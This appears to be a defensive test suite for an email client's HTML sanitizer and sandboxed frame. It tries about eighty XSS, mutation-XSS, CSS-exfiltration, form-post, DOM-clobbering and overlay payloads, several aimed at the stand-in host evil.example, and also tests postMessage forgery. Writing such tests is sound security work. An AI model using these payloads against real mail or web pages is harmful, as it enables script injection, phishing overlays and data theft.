// T421: a table of what senders try, each opened twice: as it is shown, and as if the sanitizer let all of
// it through, so that the sandbox and the frame's policy must hold alone. Nothing runs, asks, posts, opens,
// navigates, or covers what is not the mail's.
//
// The HTML stands in for that of the one mail there is: what the server says of HTML is the HTML.
import { eventually, logIn, run, test, WEB } from './tap.mjs';

const E = 'https://evil.example';
const RUN = "top.pwned=1;parent.pwned=1;alert('ran')";

/** [name, HTML, what is clicked in the mail] */
const ATTACKS = [
  // --- scripts -----------------------------------------------------------------------------------
  ['a script', `<script>${RUN}</script>`],
  ['a script from elsewhere', `<script src="${E}/x.js"></script>`],
  ['a module', `<script type="module">import '${E}/m.js'</script>`],
  ['a script in odd case and with a slash', `<ScRiPt/x>${RUN}</sCrIpT >`],
  ['a script cut in two', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['a handler on an image', `<img src=x onerror="${RUN}">`],
  ['a handler without quotes and with a slash', `<img/src=x/onerror=${RUN.replaceAll("'", '`')}>`],
  ['a handler with a line end in its name', `<img src=x one\nrror="${RUN}" on\terror="${RUN}">`],
  ['handlers on the body', `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}">`],
  ['handlers that come by themselves', `<details open ontoggle="${RUN}">x</details><marquee onstart="${RUN}">x</marquee><video onloadstart="${RUN}" src="x"></video>`],
  ['a handler of an animation', `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${RUN}">x</p>`],
  ['a field that takes the focus', `<input autofocus onfocus="${RUN}"><a tabindex=0 autofocus onfocus="${RUN}">x</a>`],
  ['a frame with a document', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  ['a frame with a script', `<iframe src="javascript:${RUN}"></iframe><frameset><frame src="javascript:${RUN}"></frameset>`],
  ['objects', `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:text/html,<script>${RUN}</script>"><applet code="${E}/a"></applet>`],
  ['a portal and a fenced frame', `<portal src="${E}/p"></portal><fencedframe src="${E}/f"></fencedframe>`],
  // --- links ---------------------------------------------------------------------------------------
  ['a javascript: link', `<a id=click href="javascript:${RUN}">x</a>`, '#click'],
  ['a javascript: link with entities', `<a id=click href="&#106;&#x61;vascript&colon;${RUN}">x</a>`, '#click'],
  ['a javascript: link with blanks and line ends', `<a id=click href=" \x01 java\tscr\nipt:${RUN}">x</a>`, '#click'],
  ['a data: link', `<a id=click href="data:text/html,<script>${RUN}</script>">x</a>`, '#click'],
  ['a vbscript: and a file: link', `<a id=click href="vbscript:${RUN}">x</a><a href="file:///etc/passwd">y</a>`, '#click'],
  ['a blob: and an about: link', `<a id=click href="blob:${WEB}/x">x</a><a href="about:blank">y</a>`, '#click'],
  ['a link over the whole window', `<a id=click href="javascript:${RUN}" target=_top>x</a>`, '#click'],
  ['a link in an image map', `<img usemap="#m" width=50 height=50><map name=m><area id=click shape=default href="javascript:${RUN}" coords="0,0,50,50"></map>`],
  ['a link in MathML', `<math href="javascript:${RUN}"><mi id=click xlink:href="javascript:${RUN}">x</mi></math>`],
  ['a ping', `<a ping="${E}/ping" href="#x" id=click>x</a>`, '#click'],
  // --- drawings ------------------------------------------------------------------------------------
  ['SVG with a script', `<svg onload="${RUN}"><script>${RUN}</script></svg>`],
  ['SVG with a script from elsewhere', `<svg><script href="${E}/s.js" xlink:href="${E}/s2.js"></script></svg>`],
  ['SVG with HTML in it', `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe><body onload="${RUN}"></foreignObject></svg>`],
  ['SVG that animates a link', `<svg width=99 height=99><a id=click><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`],
  ['SVG that sets a handler', `<svg><set attributeName=onmouseover to="${RUN}"/><animate onbegin="${RUN}" attributeName=x dur=1s /></svg>`],
  ['SVG that uses another', `<svg><use href="${E}/u.svg#a"/><image href="${E}/i.png"/><feImage href="${E}/f.png"/></svg>`],
  ['SVG as a picture', `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3Cscript%3Ealert(1)%3C/script%3E%3Cimage href='${E}/in.png'/%3E%3C/svg%3E">`],
  ['SVG as a background', `<p style="background:url(&quot;data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E&quot;)">x</p>`],
  // --- styles --------------------------------------------------------------------------------------
  ['a style that is fetched', `<style>@import "${E}/a.css"; @import url(${E}/b.css);</style><link rel=stylesheet href="${E}/c.css">`],
  ['a font that is fetched', `<style>@font-face{font-family:f;src:url(${E}/f.woff)}p{font-family:f}</style><p>x</p>`],
  ['pictures in styles', `<style>p{background:url(${E}/1);list-style:url(${E}/2);cursor:url(${E}/3),auto;content:url(${E}/4);border-image:url(${E}/5);mask:url(${E}/6);filter:url(${E}/7#f);shape-outside:url(${E}/8)}p::before{content:url(${E}/9)}</style><p>x</p>`],
  ['pictures in styles by other ways', `<p style='background:image-set("${E}/1" 1x);background-image:-webkit-image-set(url(${E}/2) 1x);background:-webkit-cross-fade(url(${E}/3),url(${E}/4),50%)'>x</p>`],
  ['pictures in styles with escapes', `<p style="background:\\75rl(${E}/1);background:u\\72 l('//evil.example/2')">x</p><style>p{--x:url(${E}/3);background:var(--x)}</style>`],
  ['an attribute that is read by styles', `<style>[title^=s]{background:url(${E}/leak?s)} a[href*=secret]{background:url(${E}/leak?h)}</style><p title=secret>x</p><a href="https://x.example/secret">y</a>`],
  ['a namespace, a document rule and a layer', `<style>@namespace url(${E}/n);@layer a{p{background:url(${E}/l)}}@supports(color:red){p{background:url(${E}/s)}}@media print,screen{p{background:url(${E}/m)}}</style><p>x</p>`],
  ['an expression and a binding', `<p style="width:expression(${RUN});behavior:url(${E}/h.htc);-moz-binding:url(${E}/b.xml#b)">x</p>`],
  ['a cover over everything', `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">cover</div>`],
  ['a cover in the top layer', `<dialog open style="position:fixed;inset:0;width:9999px;height:9999px">x</dialog><div popover=manual id=p style="display:block;position:fixed;inset:0">x</div>`],
  // --- what is fetched -----------------------------------------------------------------------------
  ['pictures by every attribute', `<img src="${E}/1" srcset="${E}/2 2x" lowsrc="${E}/3" dynsrc="${E}/4" longdesc="${E}/5"><picture><source srcset="${E}/6"><img src="//evil.example/7"></picture><input type=image src="${E}/8">`],
  ['pictures in tables and bodies', `<body background="${E}/1"><table background="${E}/2"><tr background="${E}/3"><td background="//evil.example/4">x</table>`],
  ['films and sounds', `<video poster="${E}/1" src="${E}/2" autoplay><track src="${E}/3" default></video><audio src="${E}/4" autoplay></audio><bgsound src="${E}/5">`],
  ['links that are fetched ahead', ['prefetch', 'preload', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest', 'next'].map((rel) => `<link rel=${rel} href="${E}/${rel}" as=script>`).join('')],
  ['odd spellings of an address', `<img src="\\\\evil.example\\1"><img src="/\\evil.example/2"><img src="ht\ntps://evil.example/3"><img src=" ${E}/4"><img src="HTTPS:evil.example/5">`],
  ['a base for what is relative', `<base href="${E}/" target=_top><img src="x.png"><a id=click href="y">x</a>`, '#click'],
  ['citations and profiles', `<head profile="${E}/p"><blockquote cite="${E}/c">x</blockquote><q cite="${E}/q">y</q><html manifest="${E}/m">`],
  // --- what leads away ----------------------------------------------------------------------------
  ['a refresh', `<meta http-equiv=refresh content="0; url=${E}/refresh"><META HTTP-EQUIV="Refresh" CONTENT="0;URL=javascript:${RUN}">`],
  ['a policy of the sender', `<meta http-equiv=Content-Security-Policy content="default-src *; script-src * 'unsafe-inline'"><script>${RUN}</script>`],
  ['a cookie', `<meta http-equiv=Set-Cookie content="mk_session=0">`],
  ['a form that is posted', `<form action="${E}/post" method=post><input name=a value=b><button id=click>Send</button></form>`, '#click'],
  ['a form over the whole window', `<form action="${E}/post" target=_top><button id=click>Send</button></form>`, '#click'],
  ['a form of ours', `<form action="${WEB}/api/v1/session" method=post enctype=text/plain><button id=click name="{" value="}">x</button></form>`, '#click'],
  ['a button with an action of its own', `<form id=f></form><button id=click form=f formaction="javascript:${RUN}">x</button>`, '#click'],
  ['a link in the same frame', `<a id=click href="${E}/self" target=_self>x</a>`, null],
  // --- markup that becomes other markup when it is read again ---------------------------------------
  ['noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`],
  ['a template', `<template><img src=x onerror="${RUN}"><script>${RUN}</script></template><div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`],
  ['a title in SVG', `<svg><title><style></title><img src=x onerror="${RUN}"></style></title></svg>`],
  ['a text area', `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`],
  ['a title', `<title><p title="</title><img src=x onerror=${RUN}>"></title>`],
  ['styles in SVG', `<svg></p><style><a id="</style><img src=x onerror=${RUN}>"></a></style></svg>`],
  ['MathML and a style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['MathML, a form and a glyph', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}"></style></mglyph></form></mtext></math></form>`],
  ['SVG, a description and a style', `<svg><desc><table><mi><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ['annotations', `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`],
  ['a comment that ends twice', `<!--><img src=x onerror="${RUN}">--><!-- --!><img src=x onerror="${RUN}"> -->`],
  ['a comment in a style', `<style><!--</style><img src=x onerror="${RUN}">--></style>`],
  ['old ways to show text', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed><listing>&lt;img src=x onerror=${RUN}&gt;</listing><plaintext><img src=x onerror="${RUN}">`],
  ['a section of character data', `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg><![CDATA[<script>${RUN}</script>]]>`],
  ['instructions', `<?xml-stylesheet href="${E}/x.xsl"?><!DOCTYPE html [<!ENTITY x "y">]><?php echo 1 ?><img src=x onerror="${RUN}">`],
  ['a select', `<select><template><img src=x onerror="${RUN}"></template><option><style></option></select><img src=x onerror="${RUN}"></style></select>`],
  ['attributes that end early', '<img alt="`><script>' + RUN + '</script>" title=\'"><img src=x onerror=' + RUN.replaceAll("'", '`') + ">'>"],
  // --- names that stand in for others ---------------------------------------------------------------
  ['names of the document', `<form name=body></form><img name=cookie><img name=getElementById><form id=location><input name=href></form><a id=defaultView></a><a id=childNodes></a>`],
  ['names of elements and attributes', `<form id=attributes><input name=attributes><input name=remove><input name=parentNode><input name=setAttribute><img src=x onerror="${RUN}"></form>`],
  ['names of ours', `<a id="mailkeep-hit-0">x</a><div id=svelte data-mail-body data-print>y</div><iframe name=frame></iframe>`],
];

const BAD_ELEMENTS =
  'script, iframe, frame, object, embed, applet, base, svg, math, form, input, button, select, textarea, template, ' +
  'link, meta:not([http-equiv="Content-Security-Policy"], [name=referrer], [http-equiv="x-dns-prefetch-control"], [charset]), ' +
  'video, audio, source, track, area, dialog, [popover], [srcset], [srcdoc], [ping], [formaction], [action], [autofocus]';

/** What the sanitizer must not leave: run in the frame by the debugger. */
function leftovers(bad) {
  const found = [...document.querySelectorAll(bad)].map((e) => e.outerHTML.slice(0, 80));
  for (const element of document.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) found.push(`${element.tagName} ${name}`);
      if (name === 'href' && !/^(https?|mailto|tel):/.test(value)) found.push(`${element.tagName} href ${value}`);
      if (name === 'target' && value !== '_blank') found.push(`${element.tagName} target ${value}`);
    }
  return found;
}

let mail = null;

async function begin(keep) {
  const page = await keep();
  if (mail !== null) return page;
  await logIn(page);
  const { items } = await (await page.request.get(`${WEB}/api/v1/search`)).json();
  mail = await (await page.request.get(`${WEB}/api/v1/messages/${items[0].id}`)).json();
  return page;
}

const innerFrame = (page) => page.frames().find((f) => f.parentFrame()?.url().endsWith('/frame.html'));

async function shown(page) {
  return eventually('the mail is shown', async () => {
    const frame = innerFrame(page);
    if (frame === undefined || (await frame.locator('#end').count()) === 0) throw new Error('not yet');
    return frame;
  });
}

async function openHtml(page, html) {
  await page.unroute(/\/api\/v1\/messages\/[^/]*$/);
  await page.route(/\/api\/v1\/messages\/[^/]*$/, (route) =>
    route.fulfill({
      json: { ...mail, attachments: [], parts: [{ n: 1, type: 'text/html', text: html, truncated: false }] },
    }),
  );
  page.problems.length = page.outside.length = 0;
  await page.goto(`${WEB}/message/${mail.id}`);
  return shown(page);
}

/** As if nothing had been left out: the sandbox and the policy of the document stay. */
async function letThrough(page, html) {
  const around = page.frames().find((f) => f.url().endsWith('/frame.html'));
  await around.evaluate((raw) => {
    const frame = document.querySelector('iframe');
    const [head] = frame.srcdoc.split('<body>');
    frame.srcdoc = `${head}<body>${raw}</body></html>`;
  }, html);
  await page.waitForTimeout(150);
}

async function nothingHappened(page, assert, how) {
  await page.waitForTimeout(150);
  assert.deepEqual(page.outside, [], `${how}: nothing is asked of others`);
  assert.deepEqual(page.problems.filter((p) => p.startsWith('dialog')), [], `${how}: no dialog opens`);
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined, `${how}: no script has run`);
  assert.equal(page.url(), `${WEB}/message/${mail.id}`, `${how}: the page is still the application`);
  assert.equal(page.context().pages().length, 1, `${how}: no window has opened`);
  assert.equal(await coveredBy(page), 'toolbar', `${how}: nothing covers the application`);
}

/** What a click in the middle of the toolbar would meet. */
const coveredBy = (page) =>
  page.evaluate(() => {
    const { left, top, width, height } = document.querySelector('.toolbar').getBoundingClientRect();
    return document.elementFromPoint(left + width / 2, top + height / 2)?.closest('.toolbar') ? 'toolbar' : 'other';
  });

async function press(page, selector) {
  if (selector === undefined || selector === null) return;
  const there = innerFrame(page)?.locator(selector).first();
  if (there !== undefined && (await there.count()) > 0)
    await there.click({ timeout: 1000, force: true, noWaitAfter: true }).catch(() => {});
}

for (const [name, html, clicked] of ATTACKS)
  test(name, async ({ keep, assert }) => {
    const page = await begin(keep);
    const whole = `<p>harmless words</p>${html}`;
    const frame = await openHtml(page, `<p id=end>harmless words</p>${html}`);
    assert.match(await frame.locator('#end').textContent(), /harmless words/);
    assert.deepEqual(await frame.evaluate(leftovers, BAD_ELEMENTS), [], 'what is left');
    await press(page, clicked);
    await nothingHappened(page, assert, 'as it is shown');
    await letThrough(page, whole);
    await press(page, clicked);
    await nothingHappened(page, assert, 'with the sanitizer out of the way');
  });

test('a link that is meant opens a tab that has nothing of ours', async ({ open, assert }) => {
  const page = await open();
  await logIn(page);
  await openHtml(page, `<p id=end>x</p><a id=click href="${E}/page" target=_top>x</a>`);
  const [tab] = await Promise.all([page.context().waitForEvent('page'), innerFrame(page).locator('#click').click()]);
  assert.equal(await tab.evaluate(() => opener), null);
  assert.equal(page.url(), `${WEB}/message/${mail.id}`);
});

test('what is said by nobody but the page around the mail, and is none of its answers, is not heard', async ({ open, assert }) => {
  const page = await open();
  await logIn(page);
  const { id } = mail;
  await openHtml(page, '<p id=end>x</p>');
  const said = [null, 1, 'j', [], { kind: 'key', key: 'j' }, { kind: 'key', key: 'Escape' }, { kind: 'hit', hit: 0 }, { kind: 'shown' },
    { kind: 'shown', remote: '9', text: 'x', hits: 0 }, { kind: 'shown', remote: 9, text: {}, hits: 0 },
    { kind: 'shown', remote: 9, text: 'x', hits: -1 }, { kind: 'shown', remote: 9, text: 'x', hits: Infinity }];
  const good = { kind: 'shown', remote: 9, text: 'forged', hits: 7 };
  const around = page.frames().find((f) => f.url().endsWith('/frame.html'));
  await around.evaluate((all) => all.forEach((each) => parent.postMessage(each, '*')), said);
  // By another window than the page around the mail, the answer that would count does not.
  await innerFrame(page).evaluate((each) => (parent.postMessage(each, '*'), top.postMessage(each, '*')), good);
  await page.evaluate((each) => postMessage(each, '*'), good);
  await page.waitForTimeout(200);
  assert.equal(page.url(), `${WEB}/message/${id}`);
  assert.equal(await page.getByText('Pictures from the internet').count(), 0);
  assert.deepEqual(page.problems, []);
  await around.evaluate((each) => parent.postMessage(each, '*'), good);
  await page.getByText('Pictures from the internet').waitFor();
});

test('a mail that is printed runs nothing, asks nothing and leaves its head alone', async ({ open, assert }) => {
  const page = await open();
  await logIn(page);
  await page.addInitScript(() => {
    const known = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get;
    Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
      get() {
        const inner = known.call(this);
        if (this.className === 'print') {
          inner.print = () => (top.printed = this);
          this.className = 'print seen';
          this.style = 'position:fixed;inset:0;width:800px;height:600px;visibility:visible';
        }
        return inner;
      },
    });
  });
  const styles =
    'html,body,div{display:none!important;opacity:0!important} :host{display:none!important} h1,dl{display:none!important}' +
    '#cover{display:block!important;opacity:1!important;position:fixed;inset:0;margin-top:-900px;background:red;z-index:99999}';
  await openHtml(page, `<p id=end>x</p><style>${styles}</style><div id=cover>cover</div><script>${RUN}</script><img src=x onerror="${RUN}">`);
  await page.locator('article').focus();
  await page.keyboard.press('Shift+P');
  await eventually('it is told to print', () => page.waitForFunction(() => globalThis.printed, { timeout: 200 }));
  const at = await page.evaluate(() => {
    const doc = globalThis.printed.contentDocument;
    const host = doc.body.firstElementChild;
    const { top, bottom, width } = host.getBoundingClientRect();
    return { height: bottom - top, width, hit: doc.elementFromPoint(width / 2, (top + bottom) / 2) === host };
  });
  assert.ok(at.height > 40 && at.width > 100, JSON.stringify(at));
  assert.equal(at.hit, true, 'nothing covers the head');
  await page.waitForTimeout(200);
  assert.deepEqual(page.outside, []);
  assert.deepEqual(page.problems.filter((p) => p.startsWith('dialog')), []);
});

await run();
